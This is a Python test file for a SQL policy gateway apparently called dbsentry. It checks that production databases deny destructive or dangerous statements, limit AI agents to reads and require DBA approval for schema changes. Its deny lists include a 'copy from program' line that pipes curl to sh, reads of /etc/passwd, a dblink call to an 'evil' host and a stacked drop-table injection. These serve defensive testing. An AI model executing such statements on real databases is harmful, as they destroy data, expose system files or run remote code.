"""The zero-config baseline: what it stops in production, and what it lets through."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from dbsentry.engines.postgres.sql.verdict import evaluate_sql
from dbsentry.identity.model import Identity
from dbsentry.policy import EvalContext, Policy, default_policy, parse_policy


def ctx(env: str = "production", agent: bool = False, groups: tuple[str, ...] = ()) -> EvalContext:
    return EvalContext(
        identity=Identity("alice@example.com", frozenset(groups), "agent" if agent else "human", "t1", "token"),
        connection="main",
        environment=env,
        now=datetime(2025, 1, 6, 12, 0, tzinfo=UTC),
    )


BASE: Policy = default_policy()


def decide(sql: str, **kw: object) -> tuple[str, tuple[str, ...]]:
    d = evaluate_sql(BASE, sql, ctx(**kw)).decision  # type: ignore[arg-type]
    return d.action, d.rules


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("drop table users", "baseline.prod.drop"),
        ("DROP INDEX CONCURRENTLY i", "baseline.prod.drop"),
        ("drop schema s cascade", "baseline.prod.drop"),
        ("drop database app", "baseline.prod.drop"),
        ("alter table t drop column ssn", "baseline.prod.drop"),
        ("truncate users", "baseline.prod.truncate"),
        ("delete from users", "baseline.prod.unbounded-write"),
        ("update users set admin = true", "baseline.prod.unbounded-write"),
        ("delete from users where 1=1", "baseline.prod.unbounded-write"),
        ("delete from users where 'a'='a'", "baseline.prod.unbounded-write"),
        ("update users set a = 1 where id = id", "baseline.prod.unbounded-write"),
        ("delete from users where x is not null or true", "baseline.prod.unbounded-write"),
        ("with d as (delete from t returning *) select * from d", "baseline.prod.unbounded-write"),
        ("explain analyze delete from t", "baseline.prod.unbounded-write"),
        ("prepare p as delete from t", "baseline.prod.unbounded-write"),
        ("alter system set fsync = off", "baseline.prod.alter-system"),
        ("copy t from program 'curl x | sh'", "baseline.prod.copy-program"),
        ("copy t to '/tmp/dump'", "baseline.prod.copy-server-file"),
        ("select pg_read_file('/etc/passwd')", "baseline.prod.file-access"),
        ("select lo_import('/etc/passwd')", "baseline.prod.file-access"),
        ("select * from pg_ls_dir('.')", "baseline.prod.file-access"),
        ("select * from dblink('host=evil', 'select 1') as t(a int)", "baseline.prod.remote-connection"),
        ("create server s foreign data wrapper postgres_fdw", "baseline.prod.remote-connection"),
        ("create user mapping for public server s", "baseline.prod.remote-connection"),
        ("set role postgres", "baseline.prod.role-switch"),
        ("set session authorization postgres", "baseline.prod.role-switch"),
        ("reset role", "baseline.prod.role-switch"),
        ("select set_config('role', 'postgres', false)", "baseline.prod.role-switch"),
        ("do $$ begin execute 'drop table t'; end $$", "baseline.prod.dynamic-sql"),
        ("select query_to_xml('delete from t returning 1', true, true, '')", "baseline.prod.dynamic-sql"),
        ("select dblink_exec('drop table t')", "baseline.prod.dynamic-sql"),
        ("load 'evil'", "baseline.prod.load"),
        ("select 1; drop table t", "baseline.prod.drop"),
    ],
)
def test_production_denies_for_everyone(sql: str, rule: str) -> None:
    action, rules = decide(sql)
    assert action == "deny"
    assert rule in rules
    # the same statement is not the baseline's business outside production
    assert decide(sql, env="staging")[0] == "allow"


@pytest.mark.parametrize(
    "sql",
    [
        "create table t (a int)",
        "alter table t add column b int",
        "create index i on t (a)",
        "create table t2 as select * from t",
        "select * into t2 from t",
        "create view v as select 1",
        "create function f() returns int language sql as 'select 1'",
        "refresh materialized view mv",
        "grant select on t to bob",
        "revoke all on t from bob",
        "create role bob",
        "alter role bob password 'x'",
    ],
)
def test_production_ddl_and_roles_need_dba_approval(sql: str) -> None:
    d = evaluate_sql(BASE, sql, ctx()).decision
    assert d.action == "require_approval"
    assert d.approvers == ("dba",) and d.min_approvals == 1
    assert d.rules[0] in ("baseline.prod.ddl-approval", "baseline.prod.role-approval")


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("insert into t values (1)", "baseline.prod.agent-read-only"),
        ("update t set a = 1 where id = 2", "baseline.prod.agent-read-only"),
        ("delete from t where id = 2", "baseline.prod.agent-read-only"),
        ("create temp table x (a int)", "baseline.prod.agent-read-only"),
        ("select * into x from t", "baseline.prod.agent-read-only"),
        ("create table x as select 1", "baseline.prod.agent-read-only"),
        ("call p()", "baseline.prod.agent-read-only"),
        ("copy t from stdin", "baseline.prod.agent-read-only"),
        ("with d as (insert into t values (1) returning *) select * from d", "baseline.prod.agent-read-only"),
        ("explain analyze insert into t values (1)", "baseline.prod.agent-read-only"),
        ("select nextval('s')", "baseline.prod.agent-side-effects"),
        ("select setval('s', 1)", "baseline.prod.agent-side-effects"),
        ("select pg_terminate_backend(pid) from pg_stat_activity", "baseline.prod.agent-side-effects"),
        ("select pg_cancel_backend(1)", "baseline.prod.agent-side-effects"),
        ("select pg_advisory_lock(1)", "baseline.prod.agent-side-effects"),
        ("select * from t for update", "baseline.prod.agent-side-effects"),
        ("vacuum t", "baseline.prod.agent-maintenance"),
        ("lock table t", "baseline.prod.agent-side-effects"),
        ("notify ch", "baseline.prod.agent-maintenance"),
    ],
)
def test_agents_are_read_only_in_production(sql: str, rule: str) -> None:
    action, rules = decide(sql, agent=True)
    assert action == "deny" and rule in rules
    assert decide(sql, agent=True, env="staging")[0] == "allow"


@pytest.mark.parametrize(
    "sql",
    [
        "select 1",
        "select pg_sleep(1)",
        "select * from users where id = 5",
        "select u.name, count(*) from users u join orders o on o.uid = u.id group by 1",
        "insert into t values (1)",
        "update t set a = 1 where id = 2",
        "delete from t where id = 2",
        "delete from t where created_at < now() - interval '30 days'",
        "begin",
        "commit",
        "rollback",
        "savepoint s",
        "release savepoint s",
        "rollback to savepoint s",
        "set search_path = app, public",
        "set statement_timeout = '30s'",
        "set application_name = 'psql'",
        "SET DateStyle = ISO",
        "set client_encoding = 'UTF8'",
        "set extra_float_digits = 3",
        "select set_config('search_path', 'app', false)",
        "show search_path",
        "listen ch",
        "notify ch, 'x'",
        "prepare p as select * from t where id = $1",
        "execute p(1)",
        "deallocate p",
        "discard all",
        "copy t from stdin",
        "copy t to stdout",
        "copy (select * from t) to stdout with csv header",
        "explain select * from t",
        "explain delete from t",
        "explain analyze select * from t",
        "create temp table scratch (a int)",
        "select * into temp scratch from t",
        "select c.oid, n.nspname, c.relname from pg_catalog.pg_class c"
        " left join pg_catalog.pg_namespace n on n.oid = c.relnamespace"
        " where c.relname operator(pg_catalog.~) '^(users)$' collate pg_catalog.default"
        " and pg_catalog.pg_table_is_visible(c.oid) order by 2, 3",
        "select a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod),"
        " (select pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) from pg_catalog.pg_attrdef d"
        " where d.adrelid = a.attrelid and d.adnum = a.attnum and a.atthasdef)"
        " from pg_catalog.pg_attribute a where a.attrelid = '16384' and a.attnum > 0"
        " and not a.attisdropped order by a.attnum",
        "select oid, typname from pg_type where typname = any($1)",
        "select current_setting('server_version_num')",
    ],
)
def test_ordinary_work_is_not_blocked(sql: str) -> None:
    assert decide(sql) == ("allow", ())


@pytest.mark.parametrize(
    "sql",
    [
        "select 1",
        "select * from users where id = 5",
        "show search_path",
        "set search_path = app",
        "explain select * from t",
        "begin",
        "select pg_sleep(1)",
        "copy t to stdout",
    ],
)
def test_agents_can_read(sql: str) -> None:
    assert decide(sql, agent=True) == ("allow", ())


@pytest.mark.parametrize("env", ["production", "staging", "development"])
def test_unparsable_is_denied_everywhere(env: str) -> None:
    v = evaluate_sql(BASE, "selec * fro t", ctx(env=env))
    assert v.decision.action == "deny"
    assert v.decision.rules == ("baseline.unparsable",)
    assert v.parse_error


def test_baseline_settings() -> None:
    pol = parse_policy(
        """
production_environments: [prod, live]
baseline:
  approver_group: platform-dba
  min_approvals: 2
  disable: [baseline.prod.truncate]
"""
    )
    c = ctx(env="live")
    assert evaluate_sql(pol, "truncate t", c).decision.action == "allow"
    d = evaluate_sql(pol, "create table t (a int)", c).decision
    assert (d.action, d.approvers, d.min_approvals) == ("require_approval", ("platform-dba",), 2)
    assert evaluate_sql(pol, "drop table t", ctx(env="production")).decision.action == "allow"
    off = parse_policy("baseline: {enabled: false}")
    assert evaluate_sql(off, "drop table t", ctx()).decision.action == "allow"
    assert evaluate_sql(off, "drop tabl t", ctx()).decision.action == "deny"


def test_allow_rules_cannot_override_a_baseline_deny() -> None:
    pol = parse_policy(
        """
rules:
  - name: dba-may-drop
    match: {groups: [dba], commands: ["DROP *"]}
    action: allow
"""
    )
    d = evaluate_sql(pol, "drop table t", ctx(groups=("dba",))).decision
    assert d.action == "deny" and "dba-may-drop" in d.matched
